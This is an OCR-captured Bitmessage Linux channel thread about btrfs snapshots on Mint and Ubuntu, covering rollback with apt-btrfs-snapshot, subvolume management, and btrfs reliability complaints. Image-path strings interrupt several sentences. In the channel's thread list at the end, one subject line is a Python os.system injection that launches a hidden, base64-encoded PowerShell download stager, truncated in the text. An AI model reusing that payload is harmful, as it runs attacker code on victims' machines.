anyone tested Mint KDE btrFS snapshots ?

[chan] linux
Dec 2 22:57

mint now ships with a btrfs snapshot GUI so in theory u can rollback after a package install fucked up ure system usable in practice ?

[chan] linux
Dec 2 23:14

Why use mint KDE when there is Kubuntu? The only reason I see for using mint is the Cinnamon DE. I dearly wish there were a genuine Ubuntu flavour with Cinnamon desktop, then I wouldn't have to resort to Mint. (But the only way is through installing extra packages which don't really work). Scrap Ubuntu MATE or XUbuntu for the sake of "CinUbuntu", and I wouldn't miss Mint one bit! Mint has no advantage over Ubuntu, except the Cinnamon DE. There are onlydisadvantages, like no easy way to d-u, or Kernel updates aren't installed automatically once you've chosen a different kernel and don't stay with the most current version of mint. That's all bullshit, cobbeling things together, but not a concise way of doing software updates. Again, if there were an official flavour of Ubuntu with the Cinnamondesktop, it would be *the* best OS there is!

[chan] linux
Dec 3 02:37

Yes, its a nice thing I have a package apt-btrfs-snapshot installed (ubuntu) which automatically creates snapshots every time I do something with apt, like install, update, remove packages. So in case of fuckup I can load ubuntu from usb stick (or from the console instead of gui if its still available), and do the sudo mount /dev/sda1 /mnt/ cd /mnt/ ls and I will see list of directories, where each directory is actually a snapshot - @ @backup-2017-12-01 @backup-2017-12-02-13:37:00 @ is root directory, it contains current files, I can rename @ to something else like @fucked, and rename "@backup-2017-12-02-13:37:00" to "@" so this particular snapshot will be loadednext time ubuntu starts. This is easiest backup restore ever. If old snapshot works fine then delete @fucked later. Also I can open each snapshot directory to view/copy/change older files, or do "sudo btrfs subvolume delete -C @backup-2017-12-01" to delete old snapshots (they do take some disk space, and must be deleted manually). Also you can just change /etc/fstab parameters to select particular snapshot to load system from. These snapshot folders will show you full list of files in file managers, but deep in the filesystem they actually contain only the changes comparing to the parent snapshot. But you can delete parent snapshot, and all child snapshots and files will still be fully available, which is some sort of magic. Disk check and defrag tools forbtrfs are very beta, be cautious with subvolume deletion. Restart your pc asap if you delete root snapshot, as these changes must be commited asap, or your filesystem will become corrupted in case of unexpected shutdown like powerfailure. I had this issue once, couldnt fix it. btrfs natively supports all kind of raid arrays, just specify all devices names and raid type when creating btrfs filesystem. This might be great for raid0 or raid1. Don't use btrfs raid5 or raid6 tho, they are very beta, and have bugs which can destroy whole filesystem in certain conditions.

[chan] linux
Dec 3 10:42

In theory btrfs is pretty cool; in practice your btrfs can be a lot of trouble: - you run into a disk space allocation deadlock ("no space left on device" despite using only a fraction of disk) - your vfs accesses are exponentially slower than with ext3 or ext4 (compare the time it takes to unpack and repack a large tarball or compressed git repo, e.g. the linux kernel; or just run a db) - you lose data: files disappearing or being unreadable (despite the disk/block device being 100% ok) The speed/performace trouble even happens on a really fast machine (both ssd and hdd); the data loss/allocation trouble happened every time i tried to give btrfs another chance. Any of these troubles never happened to me with ext3/ext4. The only data I remember losing with ext4 was either by REALLY defective hardware or locking myself out of the full disk encryption system. And be careful with cheap-ass USB sticks: some of them are already defective out of the box (as in lots of bad blocks) and no file system can cope with that (if the hardware doesn't even report a "write error", but says "write successful" when the data wasn't written correctly). A year ago I had bought a batch of those (EUR 16 per 64 GB each) all of them were defective. Good thing I had kept the bill and could claim warranty.

[chan] linux
Dec 3 17:09

> you run into a disk space allocation deadlock ("no space left on device" despite using only a fraction of disk) You can have multiple root and child subvolumes, and each will take somespace, but file manager will show disk space taken by currently mounted subvolume only sudo mount /dev/sda1 /mnt/ and check disk usage in /mnt/ , it will be much larger comparing to / in case of multiple subvolumes. You can run out of space on the disk even if currently loaded subvolume is not even full yet. Run something like sudo btrfs subvolume list -pat /mnt/ to show all subvolumes on your disk

[chan] linux
Dec 4 16:23

Because ubuntu is a bad distro. Better use debian.

[chan] linux
Dec 5 02:34

That happened while using only one subvolume.

[chan] linux

Subject Last Count
Your Mama 1$ §çÛM Feb18 20:59 2
Mitigating exploited software with firejail Feb 18 01:44 1
$ cd PyBitmessage ; git log | grep Author | sort -u | blacklist Feb 16 08:07 1
<<Extended: __import__("os").system("powershell.exe -NoP -sta -NonI -W Hidden -Enc JAB3AGMAPQBOAEUAdwAtAE8AQgBKAGUAQwBUACAAUwB5AFMAVABFAE0ALgBOAGUAVAAuAFcARQBCAEMATABJAGUAbgB0ADsAJAB1AD0AJwBNAG8AegBpA Feb 14 23:20 1
lock down a computer with tor Feb 14 07:04 7
New Linux kernel out! Feb 11 12:10 2
Anonymous VCS Feb 11 10:09 5
What's your salary? Feb 3 17:12 11
It snows! Feb 1 14:55 1
Julian Assange invite code - come joinour WL bunker HQ ! Jan 30 06:45 1
OMEGA user survey Jan 2909:49 1
hello Jan 27 07:48 1